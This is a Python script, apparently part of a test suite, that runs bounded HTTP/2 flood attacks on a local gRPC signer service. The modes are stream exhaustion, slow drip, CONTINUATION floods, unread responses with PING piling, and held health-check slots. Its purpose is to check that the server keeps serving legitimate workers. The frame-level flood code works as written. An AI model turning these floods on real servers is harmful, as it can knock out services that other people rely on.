"""Unauthenticated HTTP/2 floods against the signer, with raw frames (Debian's python3-h2 stack).

Frames are built with hyperframe and hpack directly, so the attacker ignores every limit the server
advertises, as a real one would. Every attack is bounded in connections, streams, bytes and time,
and targets a loopback address only.

Usage: h2_flood.py MODE PORT [--connections N] [--streams N] [--fill BYTES] [--seconds S]
                   [--interval S] [--source ADDRESS]
MODE is one of:
  streams       each connection opens --streams request streams, each with HEADERS and the first
                5 bytes of a gRPC message (announcing 65,535 bytes) plus --fill bytes of it, and
                never finishes them
  drip          each connection opens one stream and sends one DATA byte every --interval seconds
  continuation  each connection sends HEADERS without END_HEADERS, then a CONTINUATION frame of
                --fill bytes (default 16,000) every --interval seconds, forever
  noread        each connection sends --streams complete health Check calls and --pings PINGs every
                --interval seconds and never reads the answers
  watch         each connection opens --streams grpc.health.v1.Health/Watch streams and reads them
  hold          each connection makes one health Check call (no token) every --interval seconds and
                reads the answers: slots held alive without a token
Prints {"ready": true} once every connection has set up its attack (the test then checks that a
worker is still served), and at the end one JSON object: what was sent and how the server answered
(resets, GOAWAYs, gRPC status codes, connections it closed and when). A line on stdin ends the
attack early.
"""
import argparse
import asyncio
import json
import os
import ssl
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CERTIFICATE = "/securityapi.SecurityService/Certificate"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
# A gRPC message prefix: not compressed, 65,535 bytes announced; the bytes never follow.
PENDING_PREFIX = b"\x00\x00\x00\xff\xff"
# grpc.health.v1.HealthCheckRequest{service: ""} is an empty message.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"


class Stats:
    def __init__(self):
        self.connections = 0
        self.refused_connections = 0
        self.streams_sent = 0
        self.resets = 0
        self.goaways = 0
        self.closed_by_server = 0
        self.last_close_s = 0
        self.bytes_sent = 0
        self.bytes_received = 0
        self.settings = {}
        self.grpc_status = {}

    def as_json(self, elapsed):
        return {**self.__dict__, "seconds": round(elapsed, 2)}


def request_headers(encoder, path, port):
    return encoder.encode([
        (":method", "POST"), (":scheme", "https"), (":path", path),
        (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"), ("te", "trailers"),
    ])


async def read_frames(reader, stats):
    """Reads and counts the server's frames until the connection closes."""
    decoder = Decoder()
    decoder.max_allowed_table_size = 65536
    buffer = b""
    try:
        while True:
            chunk = await reader.read(65536)
            if not chunk:
                return
            stats.bytes_received += len(chunk)
            buffer += chunk
            while len(buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                if len(buffer) < 9 + length:
                    break
                body = memoryview(buffer[9:9 + length])
                buffer = buffer[9 + length:]
                if isinstance(frame, RstStreamFrame):
                    stats.resets += 1
                elif isinstance(frame, GoAwayFrame):
                    stats.goaways += 1
                elif isinstance(frame, HeadersFrame):
                    frame.parse_body(body)
                    for name, value in decoder.decode(frame.data):
                        if name == "grpc-status":
                            stats.grpc_status[value] = stats.grpc_status.get(value, 0) + 1
                elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    frame.parse_body(body)
                    stats.settings = {str(k): v for k, v in frame.settings.items()}
    except (ConnectionError, ssl.SSLError, asyncio.IncompleteReadError):
        return


async def open_connection(port, args, context, stats):
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(
            "127.0.0.1", port, ssl=context, server_hostname="127.0.0.1",
            local_addr=(args.source, 0) if args.source else None), 10)
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        stats.refused_connections += 1
        return None
    stats.connections += 1
    writer._reader = reader
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2 ** 31 - 1})
    writer.write(PREFACE + settings.serialize() + SettingsFrame(0, flags=["ACK"]).serialize())
    return reader, writer


class Closed(Exception):
    """The server closed the connection."""


def gone(writer):
    """True once the connection is closed (the server hung up), read or not."""
    reader = writer._reader  # set by us in open_connection
    return writer.transport.is_closing() or reader._eof or reader.exception() is not None


async def send(writer, stats, data):
    if gone(writer):
        raise Closed()
    writer.write(data)
    stats.bytes_sent += len(data)
    await writer.drain()


def headers_frame(encoder, stream_id, path, port, end_stream=False):
    flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
    return HeadersFrame(stream_id, request_headers(encoder, path, port), flags=flags).serialize()


class Attack:
    """The time limit (a line on stdin ends it early) and the count of connections set up."""

    def __init__(self, args):
        self.deadline = time.monotonic() + args.seconds
        self.pending = args.connections

    def running(self):
        return time.monotonic() < self.deadline

    def stop(self):
        self.deadline = 0

    def set_up(self):
        """One connection has its attack in place (or could not connect)."""
        self.pending -= 1
        if self.pending == 0:
            print(json.dumps({"ready": True}), flush=True)


async def attack_streams(port, args, writer, encoder, stats, attack, ready):
    for i in range(args.streams):
        stream_id = 1 + 2 * i
        await send(writer, stats, headers_frame(encoder, stream_id, CERTIFICATE, port)
                   + DataFrame(stream_id, PENDING_PREFIX).serialize())
        for offset in range(0, args.fill, 16384):
            await send(writer, stats, DataFrame(stream_id, bytes(min(16384, args.fill - offset))).serialize())
        stats.streams_sent += 1
        if i % 50 == 49:
            await asyncio.sleep(0.001)  # let the answers be read
    ready()


async def attack_drip(port, args, writer, encoder, stats, attack, ready):
    await send(writer, stats, headers_frame(encoder, 1, CERTIFICATE, port)
               + DataFrame(1, PENDING_PREFIX).serialize())
    stats.streams_sent += 1
    ready()
    while attack.running():
        await send(writer, stats, DataFrame(1, b"\x00").serialize())
        await asyncio.sleep(args.interval)


async def attack_continuation(port, args, writer, encoder, stats, attack, ready):
    """HEADERS without END_HEADERS, then a CONTINUATION frame of --fill bytes of header block
    every --interval seconds (as fast as possible with --interval 0), never ending the block."""
    block = request_headers(encoder, CERTIFICATE, port)
    await send(writer, stats, HeadersFrame(1, block).serialize())
    stats.streams_sent += 1
    value_size = max(1, (args.fill or 16000) // 2 - 20)
    filler = encoder.encode([("x-filler", "a" * value_size), ("x-filler", "b" * value_size)])
    ready()
    while attack.running():
        await send(writer, stats, ContinuationFrame(1, filler).serialize())
        await asyncio.sleep(args.interval)


async def attack_noread(port, args, writer, encoder, stats, attack, ready):
    """Sends --streams complete calls every --interval seconds and never reads the answers."""
    stream_id = 1
    while attack.running() and stream_id < 2 ** 31 - 100:
        if gone(writer):
            raise Closed()
        for _ in range(args.streams):
            writer.write(headers_frame(encoder, stream_id, HEALTH_CHECK, port) + DataFrame(
                stream_id, EMPTY_MESSAGE, flags=["END_STREAM"]).serialize())
            stream_id += 2
            stats.streams_sent += 1
        # Each PING must be answered: answers pile up at a peer that does not read.
        writer.write(PingFrame(0, b"12345678").serialize() * args.pings)
        if stream_id == 1 + 2 * args.streams:
            ready()
        await asyncio.sleep(args.interval)


async def attack_watch(port, args, writer, encoder, stats, attack, ready):
    for i in range(args.streams):
        stream_id = 1 + 2 * i
        await send(writer, stats, headers_frame(encoder, stream_id, HEALTH_WATCH, port)
                   + DataFrame(stream_id, EMPTY_MESSAGE, flags=["END_STREAM"]).serialize())
        stats.streams_sent += 1
    ready()


async def attack_hold(port, args, writer, encoder, stats, attack, ready):
    stream_id = 1
    while attack.running():
        await send(writer, stats, headers_frame(encoder, stream_id, HEALTH_CHECK, port) + DataFrame(
            stream_id, EMPTY_MESSAGE, flags=["END_STREAM"]).serialize())
        stats.streams_sent += 1
        stream_id += 2
        ready()
        await asyncio.sleep(args.interval)


ATTACKS = {
    "streams": attack_streams, "drip": attack_drip, "continuation": attack_continuation,
    "noread": attack_noread, "watch": attack_watch, "hold": attack_hold,
}


async def one_connection(port, args, context, stats, attack):
    opened = await open_connection(port, args, context, stats)
    if opened is None:
        attack.set_up()
        return
    reader, writer = opened
    opened_at = time.monotonic()
    encoder = Encoder()
    reading = None if args.mode == "noread" else asyncio.ensure_future(read_frames(reader, stats))
    was_set_up = []

    def ready():
        if not was_set_up:
            was_set_up.append(True)
            attack.set_up()

    try:
        await ATTACKS[args.mode](port, args, writer, encoder, stats, attack, ready)
        # Keep the connection (and what the server holds for it) open until the attack ends.
        while attack.running() and (reading is None or not reading.done()):
            await asyncio.sleep(0.2)
            if reading is None and gone(writer):
                raise Closed()
            if reading is None:
                # Keep the flow-control windows open for more answers we will never read.
                writer.write(WindowUpdateFrame(0, window_increment=1).serialize())
    except (ConnectionError, ssl.SSLError, Closed):
        pass
    finally:
        ready()
        if gone(writer) or (reading is not None and reading.done()):
            stats.closed_by_server += 1
            stats.last_close_s = max(stats.last_close_s, round(time.monotonic() - opened_at, 2))
        if reading is not None:
            reading.cancel()
        writer.transport.abort()


async def stop_on_stdin(attack):
    if await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline):
        attack.stop()


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=sorted(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--fill", type=int, default=0)
    parser.add_argument("--interval", type=float, default=0.5)
    parser.add_argument("--source", default="")
    parser.add_argument("--pings", type=int, default=0)
    args = parser.parse_args()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    stats = Stats()
    started = time.monotonic()
    attack = Attack(args)
    asyncio.ensure_future(stop_on_stdin(attack))
    await asyncio.gather(*(one_connection(args.port, args, context, stats, attack)
                           for _ in range(args.connections)))
    print(json.dumps(stats.as_json(time.monotonic() - started)), flush=True)
    # The stdin reader thread may still wait: leave without joining it.
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main())
